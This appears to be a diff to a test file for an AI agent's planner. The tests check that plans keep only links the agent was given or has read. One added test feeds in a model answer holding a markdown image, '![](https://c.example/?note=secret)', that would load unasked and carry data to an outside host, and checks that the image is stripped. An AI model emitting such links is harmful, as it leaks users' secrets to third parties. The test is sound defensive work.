@@ -12,6 +12,7 @@ import {
   type PlanState,
   startPlan,
 } from '../../../src/planner/loop.ts';
+import { urlsIn } from '../../../src/inputs/urls.ts';
 import { readIterations } from '../../../src/missions/iteration.ts';
 import { remindersFor, withReminders } from '../../../src/planner/reminders.ts';
 import { rejectedSteps, stepKey } from '../../../src/planner/step-key.ts';
@@ -205,7 +206,7 @@ describe('a plan', () => {
   });
 
   it('takes links alone that it was given or has read, where that is asked for', () => {
-    const state = startPlan({ system: 's', user: 'u', links: ['https://a.example/x'] });
+    const state = startPlan({ system: 's', user: 'u', links: [...urlsIn('https://a.example/x')] });
     const help = { read: () => ({ items: [], text: 'See https://b.example/y.' }) };
     const calls = [
       note('https://a.example/x, fine'),
@@ -220,6 +221,12 @@ describe('a plan', () => {
       '<https://b.example/y>',
     ]);
     expect(applyAnswer(fresh, answer('', [note('https://c.example')]), offered).steps).toHaveLength(1);
+    // Words are shown like steps, and a picture in them is loaded unasked.
+    const picture = answer('![](https://c.example/?note=secret)', [note('https://a.example/x')]);
+    const pictured = applyAnswer(state, picture, offered);
+    const words = JSON.stringify([planSteps(pictured, 'i'), planSummary(pictured)]);
+    expect(words).not.toContain('c.example');
+    expect(words).toContain('left out');
     // What was refused once is not given by the refusal.
     expect(applyAnswer(plan, answer('', [note('Go to https://a.example/x?secret=1')]), offered).steps).toHaveLength(2);
   });
